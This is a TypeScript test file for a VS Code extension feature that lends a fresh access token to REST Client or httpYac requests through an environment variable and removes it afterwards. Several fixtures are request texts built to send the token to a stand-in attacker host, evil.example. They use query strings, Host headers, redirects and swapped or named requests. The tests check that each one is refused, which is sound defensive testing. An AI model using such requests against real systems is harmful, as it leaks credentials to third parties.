import assert from 'node:assert/strict';
import type { TextDocument } from 'vscode';
import { cancelled } from '../../../../../src/core/errors';
import { RequestFile } from '../../../../../src/core/requestFiles/requestFile';
import { sendFresh } from '../../../../../src/vscode/feeds/restClient/freshSend';
import { requireVariable } from '../../../../../src/vscode/feeds/restClient/profilesOfVariables';
import { TokenVariables } from '../../../../../src/vscode/feeds/restClient/tokenVariables';
import type { Sending } from '../../../../../src/vscode/requests/requestTokens';
import { good, readWithWorkspace } from '../../../core/profiles/exampleProfiles';
import { recordOf } from '../../../core/tokens/exampleTokens';
import { failureOf } from '../../../core/tokens/service';

const demo = '{{$processEnv VALET_KEY_DEMO}}';

describe('sending with a fresh token', () => {
  let text: string;
  let holder: { env: NodeJS.ProcessEnv };
  let variables: TokenVariables;
  let asked: (Sending & { readonly profile: string })[];
  /** What the neighbour read of the variables at each send, and how its sends end. */
  let sent: { readonly line: number; readonly demo: string | undefined; readonly end: () => void }[];
  let scrubs: number;
  let tokenType: 'Bearer' | 'DPoP';
  let meanwhile: () => void | Promise<void>;
  /** As httpYac does, with us plugged in. */
  let asksForTokens: boolean;

  beforeEach(() => {
    text = `@host = https://api.example.com\n### One\nGET {{host}}/me\nAuthorization: Bearer ${demo}\n`;
    holder = { env: { PATH: '/bin' } };
    variables = new TokenVariables(holder, false);
    asked = [];
    sent = [];
    scrubs = 0;
    tokenType = 'Bearer';
    meanwhile = () => undefined;
    asksForTokens = false;
  });

  const document = {
    isClosed: false,
    uri: 'file:///requests.http',
    get lineCount() {
      return text.split('\n').length;
    },
    lineAt: (line: number) => ({ text: text.split('\n')[line] ?? '' }),
  } as unknown as TextDocument;

  const query = { ...good, tokenQueryParameter: 'access_token' };
  const profiles = { demo: good, query, other: good, 'a.b': good, 'a-b': good };
  const shared = { Demo: good, 'TEAM 1': good, 'team-1': good, team: good };
  const send = (line = 2) =>
    sendFresh(
      {
        settings: { read: () => Promise.resolve(readWithWorkspace(profiles, shared)) },
        requestDocuments: {
          fileOf: (file) =>
            RequestFile.parse({ lineCount: file.lineCount, lineAt: (at) => file.lineAt(at).text }, 'http'),
        },
        requestTokens: {
          tokenFor: async ({ name }, sending) => {
            asked.push({ profile: name, ...sending });
            const accessToken = `token-${asked.length}-of-${name}`;
            await meanwhile();
            return { ...recordOf({ accessToken, tokenType }), profile: name };
          },
        },
        findNeighbour: () =>
          Promise.resolve({
            asksForTokens,
            send: (_, at) =>
              new Promise((end) => sent.push({ line: at, demo: holder.env.VALET_KEY_DEMO, end })),
          }),
        variables,
        history: { remember: () => undefined, scrub: () => Promise.resolve(scrubs++).then(() => undefined) },
      },
      document,
      line,
    );
  const settled = () => new Promise((resolve) => setImmediate(resolve));

  it('R7: has the token there from the moment of the send to the response, and then no more', async () => {
    const { env } = holder;
    const sending = send();
    await settled();
    assert.deepEqual([sent[0]?.line, sent[0]?.demo], [2, 'token-1-of-demo']);
    assert.equal(holder.env.VALET_KEY_DEMO, 'token-1-of-demo');
    sent[0]?.end();
    assert.equal(await sending, 'sent');
    assert.deepEqual([holder.env, holder.env.VALET_KEY_DEMO, scrubs], [env, undefined, 1]);
    const [{ asWritten, ...about } = {}, ...others] = asked;
    assert.deepEqual(about, { profile: 'demo', url: 'https://api.example.com/me', chosenByPerson: false });
    assert.ok(String(asWritten).includes('GET {{host}}/me'));
    assert.deepEqual(others, []);
  });

  it('G1, R7: has the token of the person’s own profile, whatever a workspace calls one of its own', async () => {
    const sending = send();
    await settled();
    assert.equal(sent[0]?.demo, 'token-1-of-demo');
    sent[0]?.end();
    await sending;
    text = text.replace('VALET_KEY_DEMO', 'VALET_KEY_TEAM');
    const second = send();
    await settled();
    sent[1]?.end();
    await second;
    assert.deepEqual(
      asked.map(({ profile }) => profile),
      ['demo', 'team'],
    );
    text = text.replace('VALET_KEY_TEAM', 'VALET_KEY_TEAM_1');
    assert.match((await failureOf(send())).message, /the variable of both “TEAM 1” and “team-1”/);
  });

  it('G1, R7: a profile without a variable is told why before anything is written for REST Client', () => {
    const read = readWithWorkspace(profiles, shared);
    assert.doesNotThrow(() => requireVariable({ name: 'demo' }, read));
    assert.throws(
      () => requireVariable({ name: 'Demo' }, read),
      /“Demo” has no variable: VALET_KEY_DEMO is kept/,
    );
    assert.throws(() => requireVariable({ name: 'a.b' }, read), /“a\.b” and “a-b” would both have/);
  });

  it('R7: two sends at once do not take the token away from each other', async () => {
    const [one, other] = [send(), send()];
    await settled();
    assert.equal(sent.length, 2);
    sent[1]?.end();
    await other;
    assert.equal(holder.env.VALET_KEY_DEMO, 'token-1-of-demo');
    sent[0]?.end();
    await one;
    assert.equal(holder.env.VALET_KEY_DEMO, undefined);
  });

  it('R7: gets a token for each placeholder of the request, also through a variable of the file', async () => {
    text = `@token = {{$processEnv VALET_KEY_OTHER}}\nPOST https://api.example.com/me\nAuthorization: Bearer {{token}}\n# ${demo.replace('DEMO', 'A_B')}\n\n{"of": "${demo}"}\n`;
    const sending = send(1);
    await settled();
    assert.deepEqual(
      asked.map(({ profile }) => profile),
      ['other', 'demo'],
    );
    assert.equal(holder.env.VALET_KEY_OTHER, 'token-1-of-other');
    assert.equal(holder.env.VALET_KEY_DEMO, 'token-2-of-demo');
    sent[0]?.end();
    await sending;
    assert.equal(holder.env.VALET_KEY_OTHER, undefined);
  });

  it('L18: sends nothing, and leaves nothing, when getting the token is cancelled', async () => {
    meanwhile = () => Promise.reject(cancelled());
    assert.equal((await failureOf(send())).code, 'cancelled');
    assert.deepEqual([sent, holder.env.VALET_KEY_DEMO, scrubs], [[], undefined, 0]);
  });

  it('G8: sends nothing when the request became another one while its token was being got', async () => {
    for (const [from, to] of [
      ['/me', '/you'],
      ['https://api.example.com', 'https://evil.example'],
      [demo, `${demo}{{$processEnv VALET_KEY_OTHER}}`],
      ['### One', '### One\n###\nGET https://evil.example/?'],
    ] as const) {
      const before = text;
      meanwhile = () => void (text = before.replace(from, to));
      const failure = await failureOf(send());
      assert.match(failure.message, /was changed while its token was being got/, to);
      text = before;
    }
    assert.equal(sent.length, 0);
    meanwhile = () => void (text += '\n### Another\nGET https://evil.example\n');
    const sending = send();
    await settled();
    sent[0]?.end();
    assert.equal(await sending, 'sent');
  });

  it('G8: lends no token to another request than the person chose, where REST Client would take that', async () => {
    const evil = `GET https://evil.example/?t=${demo}`;
    const own = `GET https://api.example.com/me\nAuthorization: Bearer ${demo}`;
    for (const [written, line] of [
      [`${evil}\n\n${own}\n`, 2],
      [`${evil}\n ###\n${own}\n`, 2],
      [`/*\nHost: evil.example\nX: ${demo}\n*/\n${own}\n`, 4],
      [`/*x\n${own}\nHost: evil.example\n`, 1],
    ] as const) {
      text = written;
      assert.match((await failureOf(send(line))).message, /REST Client would send what stands in line 1 /);
    }
    assert.deepEqual([asked, sent], [[], []]);
  });

  it('G8: asks about where REST Client sends it, and not about where it seems to go', async () => {
    for (const written of [
      `@host := https://api.example.com\n###\nGET {{host}}/me`,
      `@host = https://api.example.com\nGET /me\n{{x}}\nX: {{y}}\n`,
      `GET /me\nHost: api.example.com\nHost: x.evil.example`,
      `@a.b = evil.example\n@aXb = api.example.com\n@u = https://{{aXb}}/{{a.b}}\nGET {{u}}`,
      `curl -H "X: https://api.example.com/" evil.example`,
    ]) {
      asked = [];
      text = `${written}\nAuthorization: Bearer ${demo}\n`;
      const sending = send(text.split('\n').findIndex((line) => /^(?:GET|curl)/.test(line)));
      await settled();
      assert.deepEqual([asked.length, asked[0]?.url], [1, undefined], written);
      sent.at(-1)?.end();
      await sending;
    }
  });

  it('L16: sends no token in a URL but as the parameter that its profile says, and says what to write', async () => {
    const of = (name: string) => `{{$processEnv VALET_KEY_${name}}}`;
    for (const written of [
      `GET https://api.example.com/redirect?to=https://evil.example/%3Ft=${demo}`,
      `GET https://api.example.com/me?access_token=${demo}`,
      `GET https://api.example.com/me\n  ?page=1\n  &t=${demo}`,
      `@t = ${demo}\nGET https://api.example.com/{{t}}`,
      `@t = ${demo}\nGET https://api.example.com/?t={{%t}}`,
      `GET {{$dotenv HOST}}/${demo}`,
      `GET https://api.example.com/to/${of('QUERY')}`,
      `GET https://api.example.com/?access_token=${of('QUERY')}x`,
      `@base = https://api.example.com/?to=https://evil.example/\nGET {{base}}?access_token=${of('QUERY')}`,
      `curl https://api.example.com/?access_token=${demo}`,
    ]) {
      text = `${written}\nAuthorization: Bearer ${demo}\n`;
      const failure = await failureOf(send(text.split('\n').findIndex((line) => /^(?:GET|curl)/.test(line))));
      const name = written.includes('QUERY') ? 'query' : 'demo';
      assert.equal(
        failure.message,
        `The token of “${name}” stands in the address of this request, and addresses end up in logs and histories. It was not sent.`,
        written,
      );
      assert.ok(failure.hint?.startsWith(`Write “Authorization: Bearer ${of(name.toUpperCase())}” instead.`));
    }
    assert.deepEqual([asked, sent], [[], []]);
    for (const written of [
      `GET https://api.example.com/?page=1&access_token=${of('QUERY')}&x=y HTTP/1.1`,
      `@t = ${of('QUERY')}\nGET https://api.example.com/?access_token={{t}}`,
      `GET {{$dotenv HOST}}/?access_token=${of('QUERY')} HTTP/1.1`,
      `GET /me?access_token=${of('QUERY')}`,
      `curl https://api.example.com/?access_token=${of('QUERY')} -H "X: ${demo}"`,
    ]) {
      text = `${written}\n`;
      const sending = send(text.split('\n').findIndex((line) => /^(?:GET|curl)/.test(line)));
      await settled();
      sent.at(-1)?.end();
      assert.equal(await sending, 'sent', written);
    }
  });

  it('G8: lends nothing to httpYac, which asks about every request that it sends, one that is named (# @ref) too', async () => {
    asksForTokens = true;
    tokenType = 'DPoP';
    const evil = `# @name evil\nPOST https://evil.example/c\nX: ${demo}`;
    for (const placeholder of [`Bearer ${demo}`, 'Bearer {{$auth.token("demo")}}', 'valetkey demo']) {
      text = `# @ref evil\nGET https://api.example.com/me\nAuthorization: ${placeholder}\n\n###\n${evil}\n`;
      const { env } = holder;
      const sending = send(1);
      await settled();
      assert.deepEqual([sent.length, sent[0]?.line, sent[0]?.demo], [1, 1, undefined], placeholder);
      assert.equal(holder.env, env);
      sent.pop()?.end();
      assert.equal(await sending, 'sent');
    }
    assert.deepEqual(asked, [], 'it asks itself, and about where it really goes');
    text = 'GET https://api.example.com/me\nAuthorization: Bearer {{$processEnv HOME}}\n';
    assert.equal(await send(0), 'no_placeholder');
    text = text.replace('HOME', 'VALET_KEY_GONE');
    assert.match((await failureOf(send(0))).message, /^No usable profile has the variable VALET_KEY_GONE/);
    assert.deepEqual(sent, []);
  });

  it('R7: says what stands in the way: no placeholder, no profile, two profiles, a bound token', async () => {
    text = 'GET https://api.example.com/me\nAuthorization: Bearer {{$processEnv HOME}}\n';
    assert.equal(await send(0), 'no_placeholder');
    text = text.replace('HOME', 'VALET_KEY_GONE');
    assert.match((await failureOf(send(0))).message, /^No usable profile has the variable VALET_KEY_GONE/);
    text = text.replace('VALET_KEY_GONE', 'VALET_KEY_A_B');
    assert.match(
      (await failureOf(send(0))).message,
      /^VALET_KEY_A_B would be the variable of both “a\.b” and “a-b”/,
    );
    text = text.replace('VALET_KEY_A_B', 'VALET_KEY_DEMO');
    tokenType = 'DPoP';
    assert.match((await failureOf(send(0))).message, /“demo” is bound to a key \(DPoP\)/);
    text = '# nothing here\n';
    assert.equal((await failureOf(send(0))).code, 'no_request');
    assert.deepEqual(sent, []);
  });
});
